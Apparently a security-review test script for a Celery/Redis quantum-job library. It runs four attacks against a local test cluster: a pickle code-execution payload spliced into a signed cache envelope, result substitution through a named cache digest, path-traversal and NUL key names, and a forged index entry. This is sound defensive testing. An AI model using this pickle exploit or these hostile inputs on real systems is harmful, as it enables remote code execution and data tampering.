"""The attacks of the security review, run end to end by an attacker holding only the Redis URL.

Starts a local cluster (a private server, one worker), submits victim sets as their owner
would, then attacks as someone who can write to Redis but has no ``JOBSET_SECRET_KEY``:

1. code execution: a worker signs a result under a key the attacker names, and the
   attacker re-cuts that envelope so its own pickle verifies under another key;
2. one set's result passed off as another's, through a message naming its cache digest;
3. worker-written keys named by the attacker (``../``, ``*``, NUL, 100 kB strings);
4. one forged entry in the set index, then ``list_sets``.

Prints one line per attack: what happened.  ``python benchmarks/attacks.py``
"""

from __future__ import annotations

import tempfile
import time
import uuid
from pathlib import Path

from celery import Celery
from qiskit import QuantumCircuit
from qiskit_aer import AerSimulator

from jobset import AerJobSet, CeleryExecutor, run
from jobset.local import LocalCluster
from jobset.protocol import PROTOCOL_VERSION as V

QUEUE = "jobset.cpu"
TASK = "jobset.run_sub_job"
HEADER = 4 + 1 + 32


def circuits(name: str, flips: int) -> list[QuantumCircuit]:
    out = []
    for i in range(2):
        qc = QuantumCircuit(3, name=f"{name}{i}")
        qc.h(0)
        for q in range(flips):
            qc.x(1 + q % 2)
        qc.measure_all()
        out.append(qc)
    return out


def settle(executor: CeleryExecutor, task_id: str, timeout_s: float = 60) -> str:
    result = executor.app.AsyncResult(task_id)
    deadline = time.monotonic() + timeout_s
    while result.state not in ("SUCCESS", "FAILURE") and time.monotonic() < deadline:
        time.sleep(0.05)
    return f"{result.state} {str(result.result)[:90]!r}"


def main() -> None:
    marker = Path(tempfile.mkdtemp()) / "pwned"
    # A protocol-0 pickle is ASCII, so it fits in a JSON string and a Redis key.
    exploit = b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR."
    with LocalCluster(workers=1, concurrency=1) as cluster, CeleryExecutor(cluster.settings) as ex:
        attacker = Celery("attacker", broker=cluster.redis_url)
        victim = run(AerSimulator(), circuits("v", 1), executor=ex, max_job_size=1, shots=20)
        victim.result(timeout=60)
        vid = victim.job_id()

        # 1. A result signed under jobset:cache:d\0\0<pickle>, re-cut to verify under
        # jobset:cache:d with the attacker's pickle in front of the body.
        named = "d\x00\x00" + exploit.decode()
        message = {"jobset_id": vid, "index": 0, "experiments": 1, "version": V}
        tid = str(uuid.uuid4())
        attacker.send_task(
            TASK, kwargs={**message, "cache_digest": named, "cache_ttl_s": 60},
            task_id=tid, queue=QUEUE,
        )  # fmt: skip
        first = settle(ex, tid)
        signed = ex.redis.get(f"jobset:cache:{named}")
        outcome = f"crafted message: {first}; "
        if signed is None:
            outcome += "no value signed under the attacker's key"
        else:
            recut = signed[:4] + b"\x00" + signed[5:HEADER] + exploit + b"\x00" + signed[4:5]
            recut += signed[HEADER:]
            ex.redis.set("jobset:cache:d", recut)
            tid = str(uuid.uuid4())
            attacker.send_task(
                TASK, kwargs={**message, "cache_digest": "d", "cache_ttl_s": 60},
                task_id=tid, queue=QUEUE,
            )  # fmt: skip
            outcome += f"re-cut envelope read by the worker: {settle(ex, tid)}"
        deadline = time.monotonic() + 5
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        print(f"1 code execution: {'RAN' if marker.exists() else 'nothing ran'} ({outcome})")

        # 2. Set P run again under a message that names set S's cache digest.
        s = run(AerSimulator(), circuits("s", 2), executor=ex, max_job_size=1, shots=20,
                seed_simulator=1, cache_ttl_s=300)  # fmt: skip
        s.result(timeout=60)
        p = run(AerSimulator(), circuits("p", 1), executor=ex, max_job_size=1, shots=20,
                seed_simulator=2)  # fmt: skip
        own = p.result(timeout=60).get_counts(0)
        digest = next(
            k.decode().rsplit(":", 1)[1]
            for k in ex.redis.scan_iter(match="jobset:cache:????*")
            if len(k) == len("jobset:cache:") + 64
        )
        ex.redis.delete(f"celery-task-meta-{p.job_id()}-0")
        attacker.send_task(
            TASK,
            kwargs={"jobset_id": p.job_id(), "index": 0, "experiments": 1, "version": V,
                    "cache_digest": digest, "cache_ttl_s": 60},
            task_id=f"{p.job_id()}-0", queue=QUEUE,
        )  # fmt: skip
        state = settle(ex, f"{p.job_id()}-0")
        try:
            got = AerJobSet.retrieve(p.job_id(), ex).result(timeout=30).get_counts(0)
            said = "P reads S's counts" if got != own else "P reads its own counts"
        except Exception as e:
            said = f"P's result() raises {type(e).__name__} (its sub-job's state is the refusal)"
        print(f"2 another set's result: {said} (message: {state})")

        # 3. Worker-written keys named by the attacker.
        before = set(ex.redis.keys("jobset*"))
        for bad in ("../../x", "*", "a\x00b", "x" * 100_000):
            attacker.send_task(
                TASK, kwargs={"jobset_id": bad, "index": 0, "experiments": 1, "version": V},
                task_id=str(uuid.uuid4()), queue=QUEUE,
            )  # fmt: skip
        time.sleep(3)
        written = [k[:40] for k in set(ex.redis.keys("jobset*")) - before if b"worker" not in k]
        print(f"3 attacker-named keys written by the worker: {len(written)} {written[:3]}")

        # 4. One forged index entry.
        ex.redis.zadd("jobset:index", {str(uuid.uuid4()): time.time()})
        forged = next(iter(ex.redis.zrange("jobset:index", -1, -1))).decode()
        ex.redis.set(f"jobset:{forged}:record", b"AJS1" + b"\x00" * 40)
        ex.redis.set(f"jobset:{forged}:record", b"AJS2" + b"\x00" * 40)
        try:
            listed = AerJobSet.list_sets(ex)
            print(f"4 forged index entry: list_sets lists {len(listed)} sets, the forged skipped")
        except Exception as e:
            print(f"4 forged index entry: list_sets raises {type(e).__name__}: {str(e)[:80]}")
        attacker.close()


if __name__ == "__main__":
    main()
